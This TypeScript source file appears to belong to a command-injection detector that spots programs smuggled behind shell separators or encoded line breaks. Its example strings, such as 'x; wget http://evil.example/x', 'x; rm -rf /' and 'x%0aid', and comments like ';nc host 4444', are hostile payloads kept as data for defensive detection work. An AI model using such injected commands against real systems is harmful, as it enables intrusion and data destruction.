import { EMPTY_WORD, EVERYDAY, findWord, hashByte, lower, NAMED, PLAIN, SURE, word, WORD_CLASS } from "../keywords.ts";
import type { Pattern } from "../pattern.ts";
import {
  ADDRESS,
  argumentKind,
  BACKTICK,
  BEGINNING,
  commandContext,
  ENDS,
  EXPANSION,
  FILE,
  hasProgramPath,
  isAlone,
  isDoubled,
  isRow,
  isShell,
  isTable,
  LINE_BREAK,
  nameEndsAt,
  NO_ARGUMENT,
  NOWHERE,
  NUMERAL,
  OPTION,
  PATH,
  PIPE,
  PLAIN_WORD,
  QUOTED,
  SEMICOLON,
  separatorAt,
  standsAlone,
  SUBSTITUTION,
  takesNumber,
  URL,
} from "../shell_grammar.ts";
import { BOUND, CAPS, LINE, NUMBER, type Tokens, WORD } from "../tokens.ts";
import { hasArgument, isKnownPath, PROGRAMS, VERBS } from "./program_words.ts";

const USER = word("user"), ECHO = word("echo"), CAT = word("cat"), NET = word("net"), INIT = word("init");
const EXPORT = word("export"), SERVICE = word("service"), ID = word("id"), TRAP = word("trap"), IP = word("ip");
const HALT = word("halt"), CD = word("cd"), ALIAS = word("alias");
const SLASH = 0x2f, DOLLAR = 0x24, OPEN = 0x28, CLOSE = 0x29, COLON = 0x3a, EQUALS = 0x3d, DOT = 0x2e;

/** `; rm -rf /`, `| sh`, `$(id)`: a program behind a separator of the shell. */
function isCommand(t: Tokens, i: number): boolean {
  const context = commandContext(t, i);
  if (context === NOWHERE) return false;
  if (context === BEGINNING) {
    // A line break, and then the path of a program: what came before it was to be ended.
    if (hasProgramPath && ((t.flags[separatorAt + 1] as number) & LINE) !== 0 && t.kind[separatorAt] === BOUND) {
      return argumentKind(t, nameEndsAt(t, i), context) !== NO_ARGUMENT;
    }
    // A text of nothing but a line break and `id`.
    return ((t.flags[i] as number) & LINE) !== 0 && standsAlone(t.bits[i] as number) && t.kind[i + 1] === BOUND &&
      t.kind[i - 1] === BOUND;
  }
  const bits = t.bits[i] as number;
  const behind = nameEndsAt(t, i);
  const argument = argumentKind(t, behind, context);
  if (argument === NO_ARGUMENT) return false;
  // cron begins with `cd / &&`, and who is let in there wants to go elsewhere.
  if (t.word[i] === CD && t.kind[behind] === SLASH && t.kind[behind + 1] !== WORD) return false;
  // Cat Echo; Bash Nweke: names of people.
  if (argument === PLAIN_WORD && isCapitalized(t, i) && isCapitalized(t, behind)) return false;
  const isSure = (bits & SURE) !== 0;
  const isNamed = (bits & NAMED) !== 0;
  if (context === SUBSTITUTION) {
    // $(id).addClass(…) is jQuery, $(id).example.org is a name that tells what the command said.
    return argument !== ENDS || t.kind[behind] !== CLOSE || t.kind[separatorAt] !== DOLLAR ||
      (!isMember(t, behind + 1) && t.kind[behind + 1] !== 0x5b && t.kind[behind + 1] !== SEMICOLON);
  }
  if (context === BACKTICK) return isSubstituted(t, i, argument);
  if (context === LINE_BREAK) {
    // Lines of logs and of source code begin with such words too: only what looks like nothing else counts.
    if (argument === ENDS) return (isSure && standsAlone(bits)) || isShortSecondLine(t, i);
    if (argument === OPTION || argument === URL || argument === EXPANSION) return true;
    return (argument === PATH && isKnownPath(t, behind)) || (argument === QUOTED && isSure);
  }
  switch (argument) {
    case ENDS:
      if (hasProgramPath) return true;
      if (isSurelyAlone(t, i, behind)) return true;
      // … | chpasswd
      if (context === PIPE && FED.has(t.word[i] as number)) return !isTable(t, i);
      if (isAlone(t, i)) return true;
      if (!standsAlone(bits)) return false;
      if (isDoubled && isRestartBetween(t, i, behind)) return true;
      if (isDoubled && t.kind[behind] !== BOUND && t.kind[behind] !== PIPE && t.kind[behind] !== 0x23) return isSure;
      return (isSure && !isRow(t)) || !(isTable(t, i) || endsSentence(t, bits));
    case FILE:
      // eth0; ip 10.0.0.5
      return t.word[i] !== IP || t.kind[behind] !== NUMBER;
    case OPTION:
    case PATH:
    case URL:
    case EXPANSION:
      return true;
    case ADDRESS:
      return isSure || isNamed || context !== SEMICOLON;
    case QUOTED:
      // Fish 'n' Chips
      if (isAnd(t, behind)) return false;
      return isSure || isNamed || t.word[i] === ECHO || t.word[i] === CAT || t.kind[behind] === 0x3c;
    case NUMERAL:
      // chmod 4755 /bin/x, i2cset 1 0x20 0
      if (isSure && (hasArgument(t, behind + 1) || BUSES.has(t.word[i] as number))) return !isTable(t, i);
      return (takesNumber(bits) || isSure || t.word[i] === ECHO || t.word[i] === INIT) && isLast(t, behind) &&
        !isTable(t, i) && !isBacklog(t, i);
    case PLAIN_WORD:
      if (VERBS.get(t.word[i] as number)?.has(t.word[behind] as number) === true) return !isTable(t, i);
      // ;nc host 4444
      if (CONNECTS.has(t.word[i] as number) && t.kind[behind + 1] === NUMBER) return isLast(t, behind + 1);
      // ;cansend can0 7DF#02, ;gpioset gpiochip0 17=1
      if (BUSES.has(t.word[i] as number) && endsInDigit(t, behind)) return true;
      if (t.word[i] === TRAP) return t.glued(i) && isLast(t, behind + 1);
      if (t.word[i] === EXPORT || t.word[i] === ALIAS) return t.kind[behind + 1] === EQUALS && t.glued(behind + 1);
      if (t.word[i] === SERVICE) return SERVICE_VERBS.has(t.word[behind + 1] as number) && isLast(t, behind + 1);
      // Curl up & sleep.
      if (isSure && context === SEMICOLON && PARTICLES.has(t.word[behind] as number) && t.spaced(i)) return false;
      if (isSure && t.kind[behind + 1] === COLON && t.glued(behind + 1)) return true;
      if (isNamed && (t.kind[behind + 1] === EQUALS || hasArgument(t, behind + 1))) return true;
      if (isSure) return isLast(t, behind) || isLast(t, behind + 1) || hasArgument(t, behind + 1);
      if (t.word[i] === NET) return t.word[behind] === USER || hasArgument(t, behind + 1);
      return (t.word[i] === ECHO || isShell(bits)) && isLast(t, behind) && !isTable(t, i);
  }
  return false;
}

/**
 * `x;shutdown`, `x && who`, `x|w` and nothing behind: words of sentences and of tables, which end so with nothing between the
 * separator and themselves, or behind a doubled one.
 */
function isSurelyAlone(t: Tokens, i: number, behind: number): boolean {
  const isEnd = t.kind[behind] === BOUND || (t.kind[behind] === 0x23 && t.kind[behind + 1] === BOUND) ||
    (t.kind[behind] === SEMICOLON && t.kind[behind + 1] === BOUND);
  if (!isEnd || isCapitalized(t, i) || !LONE.has(t.word[i] as number)) return false;
  const before = separatorAt - 1;
  if (isDoubled) return t.spaced(i) === t.spaced(separatorAt) && isValue(t, before);
  return t.glued(i) && t.glued(separatorAt) && isValue(t, before) && t.kind[before - 1] === BOUND;
}
const LONE = new Set(["shutdown", "who", "w", "last", "mount", "umount", "lsof", "free", "arch", "ver"].map(word));

/** What stands at `i` may be the value that a command was put behind: no state of a device, no column of a table. */
function isValue(t: Tokens, i: number): boolean {
  return t.kind[i] === NUMBER || t.isQuote(i) || (t.kind[i] === WORD && ((t.bits[i] as number) & EVERYDAY) === 0);
}

/** `x && reboot && y`, and nothing else: no condition has a restart of the machine between two values. */
function isRestartBetween(t: Tokens, i: number, behind: number): boolean {
  return t.word[i] !== HALT && RESTARTS.has(t.word[i] as number) && t.kind[behind] === 0x26 &&
    t.kind[behind + 1] === 0x26 &&
    t.kind[behind + 2] === WORD && t.kind[behind + 3] === BOUND && isValue(t, separatorAt - 1) &&
    t.kind[separatorAt - 2] === BOUND && !isCapitalized(t, i);
}

/** `'n'` stands at `at`: an "and" in names. */
function isAnd(t: Tokens, at: number): boolean {
  return t.kind[at] === 0x27 && t.kind[at + 1] === WORD && t.end[at + 1]! - t.start[at + 1]! === 1 &&
    lower(t.bytes[t.start[at + 1] as number] as number) === 0x6e && t.kind[at + 2] === 0x27;
}

/** The word at `i` is named as interfaces are: `can0`, `gpiochip1`. */
function endsInDigit(t: Tokens, i: number): boolean {
  const last = t.bytes[(t.end[i] as number) - 1] as number;
  return last >= 0x30 && last <= 0x39;
}
/** Tools that speak to what a machine moves by, of which no sentence has an interface or a number behind them. */
const BUSES = new Set(
  "cansend candump cangen canplayer isotpsend slcand i2cset i2cget i2cdump i2cdetect gpioset gpioget mbpoll modpoll devmem devmem2"
    .split(" ").map(word),
);
const PARTICLES = new Set(["up", "in", "on", "and", "or", "with", "all", "to"].map(word));

/** `.hide()`, `.value = 3` at `at`. */
function isMember(t: Tokens, at: number): boolean {
  return t.kind[at] === DOT && (t.kind[at + 2] === OPEN || t.kind[at + 2] === EQUALS);
}

const CONNECTS = new Set(["nc", "ncat", "netcat", "telnet"].map(word));
const SERVICE_VERBS = new Set(["start", "stop", "restart", "status"].map(word));

/** `dev1⏎id`: a second line that is nothing but a command, behind a first one of one word. */
function isShortSecondLine(t: Tokens, i: number): boolean {
  const isLone = t.kind[separatorAt] === WORD && t.kind[separatorAt - 1] === BOUND && t.kind[i + 1] === BOUND;
  if (isLone) {
    if (t.word[i] === ID || hasProgramPath) return true;
    return RESTARTS.has(t.word[i] as number) && ((t.bits[separatorAt] as number) & EVERYDAY) === 0 &&
      !isCapitalized(t, separatorAt) && !isCapitalized(t, i);
  }
  // 1⏎id
  if (t.word[i] === ID && t.kind[separatorAt] === NUMBER && t.kind[separatorAt - 1] === BOUND) {
    return t.kind[i + 1] === BOUND;
  }
  // 192.0.2.1⏎id: behind an address
  return t.kind[separatorAt] === NUMBER && t.kind[separatorAt - 1] === DOT && t.kind[separatorAt - 2] === NUMBER &&
    t.kind[separatorAt - 3] === BOUND && t.glued(separatorAt) && t.kind[i + 1] === BOUND &&
    (standsAlone(t.bits[i] as number) || hasProgramPath);
}
const RESTARTS = new Set(["reboot", "halt", "poweroff"].map(word));
const FED = new Set(["chpasswd", "xargs"].map(word));

/** A program of at most three letters. */
function isShortCommand(t: Tokens, i: number): boolean {
  return t.end[i]! - t.start[i]! <= 3 && isCommand(t, i);
}

function isLongCommand(t: Tokens, i: number): boolean {
  return t.end[i]! - t.start[i]! > 3 && isCommand(t, i);
}

/** As names and sentences are written, and commands are not. */
function isCapitalized(t: Tokens, i: number): boolean {
  const start = t.start[i] as number;
  const first = t.bytes[start] as number;
  return first >= 0x41 && first <= 0x5a && ((t.flags[i] as number) & CAPS) === 0;
}

/** `timeout; reboot`: the separator is the punctuation of a sentence, and the command one of its words. */
function endsSentence(t: Tokens, bits: number): boolean {
  // x.bin; reboot: behind the name of a file or a host.
  if (t.kind[separatorAt - 2] === DOT && t.glued(separatorAt - 1) && t.glued(separatorAt - 2)) return false;
  // home; reboot: behind one word that says nothing of a device, written small as names of networks and hosts are.
  const isName = t.kind[separatorAt - 2] === BOUND && ((t.bits[separatorAt - 1] as number) & EVERYDAY) === 0 &&
    !isCapitalized(t, separatorAt - 1);
  if (isName) return false;
  return (bits & PLAIN) !== 0 && t.kind[separatorAt] === SEMICOLON && t.kind[separatorAt - 1] === WORD &&
    t.glued(separatorAt) && t.spaced(separatorAt + 1) && t.end[separatorAt - 1]! - t.start[separatorAt - 1]! > 2;
}

/** Nothing but separators follows the one argument at `at`. */
function isLast(t: Tokens, at: number): boolean {
  const next = t.kind[at + 1] as number;
  return next === BOUND || next === SEMICOLON || next === PIPE || next === 0x26 || next === BACKTICK || next === 0x23 ||
    next === 0x3e || ((t.flags[at + 1] as number) & LINE) !== 0 || (next === 0x3c && t.kind[at + 2] === SLASH);
}

/** A command in backticks that are no Markdown: glued to a value, or the whole text. */
function isSubstituted(t: Tokens, i: number, argument: number): boolean {
  const opener = separatorAt;
  if (argument === PLAIN_WORD && ((t.bits[i] as number) & PLAIN) !== 0) return false;
  if (t.kind[opener - 1] === BACKTICK || t.kind[opener + 1] === BACKTICK) return false;
  let closer = i + 1;
  while (closer < i + 24 && t.kind[closer] !== BACKTICK && t.kind[closer] !== BOUND) closer++;
  if (t.kind[closer] !== BACKTICK) return false;
  const before = t.kind[opener - 1] as number;
  const next = t.kind[closer + 1] as number;
  // name=x⏎`id`⏎
  if (
    ((t.flags[opener] as number) & LINE) !== 0 && t.kind[opener - 2] === 0x3d && t.glued(opener - 2) &&
    t.glued(opener - 1)
  ) return next === BOUND || next === 0x26 || ((t.flags[closer + 1] as number) & LINE) !== 0;
  // `id`.example.org
  if (before === BOUND) {
    return next === BOUND ||
      (next === DOT && t.glued(closer + 1) && t.kind[closer + 2] === WORD && t.glued(closer + 2));
  }
  // cam-`id`, a/`id`/b
  if (t.glued(opener) && (before === 0x2d || (before === SLASH && next === SLASH))) return true;
  // Markdown behind a semicolon, in a cell of a table.
  const isMarkdown = t.spaced(opener) && (before === SEMICOLON || before === PIPE || before === 0x26);
  if (isMarkdown && t.kind[closer + 1] !== BOUND) return false;
  return (t.glued(opener) && (before === WORD || before === NUMBER)) || before === SEMICOLON || before === PIPE ||
    before === 0x26 || (before === OPEN && t.kind[opener - 2] === OPEN) ||
    before === 0x3d || before === DOLLAR;
}

/**
 * `Backlog Power1 ON; Sleep 50`, `set blind pct 30; sleep 20; set blind off`: commands of Tasmota, where Sleep saves energy,
 * and of FHEM, whose texts begin with `set`, which does nothing in a shell.
 */
function isBacklog(t: Tokens, i: number): boolean {
  for (let at = i - 1; at > i - 48; at--) {
    if (BACKLOG.has(t.word[at] as number)) return true;
    if (t.kind[at] === BOUND || t.isQuote(at) || t.kind[at] === EQUALS) return t.word[at + 1] === SET;
  }
  return false;
}
const SET = word("set");
const BACKLOG = new Set(["backlog", "backlog0", "backlog2", "backlog3"].map(word));

/** Behind the directory of programs at `at`, if one is there. */
function programAt(bytes: Uint8Array, at: number): number {
  for (const directory of PROGRAM_DIRECTORIES) {
    let n = 0;
    while (n < directory.length && bytes[at + n] === directory[n]) n++;
    if (n === directory.length) return at + n;
  }
  return at;
}
const PROGRAM_DIRECTORIES = ["/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/"].map((path) =>
  new TextEncoder().encode(path)
);

/** `%0aid`, `%0d%0aid`, `%0a/bin/id`: a line break written so, and a command alone. */
function isEncodedLineBreak(t: Tokens, i: number): boolean {
  const { bytes } = t;
  let at = t.start[i] as number;
  if (bytes[at + 1] !== 0x30 || ((bytes[at + 2] as number) | 0x20) !== 0x61) return false;
  at = programAt(bytes, at + 3);
  let hash = EMPTY_WORD;
  let end = at;
  for (; end < at + 16; end++) {
    const low = lower(bytes[end] ?? 0);
    if ((low < 0x61 || low > 0x7a) && low !== 0x5f) break;
    hash = hashByte(hash, low);
  }
  if (end === at || !standsAlone(WORD_CLASS[findWord(bytes, at, end, hash)] as number)) return false;
  // The end, white space, or a separator, encoded or not.
  const next = bytes[end] ?? 0;
  if (next !== 0x25) return next <= 0x20 || next === 0xff || ";|&#\"'".includes(String.fromCharCode(next));
  const first = bytes[end + 1] ?? 0;
  const second = (bytes[end + 2] ?? 0) | 0x20;
  return first === 0x30 || (first === 0x32 && (second === 0x36 || second === 0x33)) ||
    (first === 0x37 && second === 0x63) || (first === 0x33 && second === 0x62);
}

/** A program behind what parts commands: `;`, `|`, `&`, a line break, `$(`, a backtick. */
export const SEPARATED = {
  long: {
    name: "cmd-separated",
    category: "command-injection",
    severity: "high",
    catches: "A program behind ;, |, &, a line break, $( or a backtick, with arguments that no sentence has there",
    example: "x; wget http://evil.example/x",
    nearMiss: "open the valve; sleep well; find the leak",
    at: PROGRAMS,
    gate: "separator",
    test: isLongCommand,
  },
  short: {
    name: "cmd-separated-short",
    category: "command-injection",
    severity: "high",
    catches:
      "The same with a name of at most three letters: a program behind ;, |, &, a line break, $( or a backtick, with arguments that no sentence has there",
    example: "x; rm -rf /",
    nearMiss: "open the valve; sleep well; find the leak",
    weak: true,
    at: PROGRAMS,
    gate: "separator",
    test: isShortCommand,
  },
  encodedLineBreak: {
    name: "cmd-encoded-line-break",
    category: "command-injection",
    severity: "medium",
    catches: "A percent-encoded line break with a command behind it",
    example: "x%0aid",
    nearMiss: "%0aids %0Aid=5",
    weak: true,
    at: ["%0"],
    test: isEncodedLineBreak,
  },
} as const satisfies Readonly<Record<string, Pattern>>;
